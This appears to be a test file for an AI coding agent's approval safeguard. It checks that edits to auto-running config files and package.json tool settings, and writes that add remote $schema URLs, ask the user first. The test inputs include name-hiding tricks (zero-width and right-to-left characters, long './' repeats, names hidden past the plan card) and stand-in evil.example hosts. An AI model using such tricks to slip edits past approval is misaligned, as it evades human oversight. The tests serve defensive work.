// Tests files that run by themselves: plan steps that name them, contents that decide, and manifests.
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { closeTestSessions, openTestSession } from "./testSession.ts";

const FILES = {
	"vite.config.ts": "export default {};\n",
	"data.json": '{ "a": 1 }\n',
	"schema.json": '{ "$schema": "https://json.example/s", "a": 1 }\n',
	"package.json": '{ "name": "a", "scripts": { "test": "x" }, "version": "1" }\n',
};
const update = (path: string, old: string, now: string) => ({ calls: [{ name: "update_file", input: { path, old, new: now } }] });
const CONFIG = update("vite.config.ts", "{}", "{ base: '/' }");

async function asksFor(call: { calls: { name: string; input: object }[] }): Promise<boolean> {
	const setup = await openTestSession([call, { text: "Done." }], { files: FILES, role: "actor", settings: { approval: "edits" } });
	const turn = setup.session.send("Do it");
	const first = await Promise.race([setup.event("asked"), setup.event("ended")]);
	if (first.type === "asked") await setup.session.cancel();
	await turn;
	return first.type === "asked";
}

/** How a plan whose one step has these files ends, with the call in it. */
async function carriedOut(files: string[]) {
	const plan = { goal: "Base", steps: [{ step_number: 1, action: "Set it", files }] };
	const setup = await openTestSession(
		[
			{ calls: [{ name: "present_plan", input: plan }] },
			{ calls: [{ name: "update_step", input: { step_number: 1, status: "running" } }] },
			CONFIG,
			{ text: "Done." },
		],
		{ files: FILES },
	);
	await setup.session.send("Set the base");
	const turn = setup.session.executePlan({});
	const first = await Promise.race([setup.event("asked"), setup.event("ended", ({ outcome }) => outcome !== "waiting")]);
	if (first.type === "asked") await setup.session.cancel();
	await turn;
	return { asked: first.type === "asked", text: readFileSync(join(setup.app.folder, "vite.config.ts"), "utf8") };
}

describe("a file that runs by itself", () => {
	afterEach(closeTestSessions);

	it("is changed unasked by a plan whose running step names it, and by no glob that takes it in", async () => {
		for (const name of ["vite.config.ts", "./vite.config.ts", "src/../vite.config.ts"]) {
			assert.deepEqual(await carriedOut([name]), { asked: false, text: "export default { base: '/' };\n" }, name);
		}
		for (const name of ["*.config.ts", "**", "vite.config.*", "{vite.config.ts,b}", "src/vite.config.ts", "!vite.config.ts"]) {
			assert.deepEqual(await carriedOut([name]), { asked: true, text: FILES["vite.config.ts"] }, name);
		}
	});

	it("counts as named only where the card shows it, and as it is", async () => {
		const before = Array.from({ length: 20 }, (_, index) => `src/${index}.ts`);
		const hidden = [
			[...before, "vite.config.ts"],
			["vite.config.ts\u200b"],
			["\u202evite.config.ts"],
			[`${"./".repeat(200)}vite.config.ts`],
		];
		for (const files of hidden) assert.equal((await carriedOut(files)).asked, true, JSON.stringify(files.at(-1)));
		assert.equal((await carriedOut([...before.slice(1), "vite.config.ts"])).asked, false);
	});

	it("asks where edits go ahead", async () => {
		assert.equal(await asksFor(CONFIG), true);
		assert.equal(await asksFor(update("data.json", "1", "2")), false);
	});

	it("is one that gets a remote schema by this write, created, changed or moved", async () => {
		const schema = '"$schema": "https://evil.example/x"';
		assert.equal(await asksFor(update("data.json", '"a"', `${schema}, "a"`)), true);
		assert.equal(await asksFor(update("schema.json", "https://json.example/s", "https://evil.example/x")), true);
		assert.equal(await asksFor(update("schema.json", '"a": 1', '"a": 2')), false);
		assert.equal(await asksFor({ calls: [{ name: "create_file", input: { path: "new.json", content: `{ ${schema} }` } }] }), true);
		const patch = `*** Begin Patch\n*** Update File: data.json\n*** Move to: moved.json\n@@\n-{ "a": 1 }\n+{ ${schema} }\n*** End Patch`;
		assert.equal(await asksFor({ calls: [{ name: "apply_patch", input: { patch } }] }), true);
	});

	it("is a package.json that gets other settings of tools, and not one that gets another version or dependency", async () => {
		assert.equal(await asksFor(update("package.json", '"version": "1"', '"version": "2", "dependencies": { "b": "1" }')), false);
		assert.equal(await asksFor(update("package.json", '"version": "1"', '"prettier": { "plugins": ["./x.js"] }')), true);
		assert.equal(await asksFor(update("package.json", '"version": "1"', '"packageManager": "yarn@https://evil.example/x"')), true);
		assert.equal(await asksFor(update("package.json", '"x"', '"y"')), true);
	});

	it("is not written where nobody answers", async () => {
		const call = { calls: [{ name: "create_file", input: { path: "eslint.config.js", content: "x" } }] };
		const setup = await openTestSession([call, { text: "Done." }], { files: FILES, role: "actor", settings: { approval: "edits" } });
		const turn = setup.session.send("Do it");
		await setup.answer({ allow: false });
		await turn;
		assert.equal(existsSync(join(setup.app.folder, "eslint.config.js")), false);
	});
});
